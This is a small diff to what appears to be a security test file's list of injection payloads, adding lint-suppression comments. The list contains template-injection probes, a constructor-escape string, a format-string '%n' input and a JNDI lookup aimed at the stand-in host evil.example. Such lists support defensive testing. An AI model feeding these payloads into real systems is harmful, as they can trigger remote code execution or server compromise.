@@ -42,10 +42,12 @@ const PAYLOADS: readonly string[] = [
   '\u2028x: y',
   // Templates
   '{{7*7}}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the payload
   '${7*7}',
   '<%= 7*7 %>',
   '#{7*7}',
   '{{constructor.constructor("return 1")()}}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the payload
   '${jndi:ldap://evil.example/a}',
   '%s%s%s%n',
   // Paths
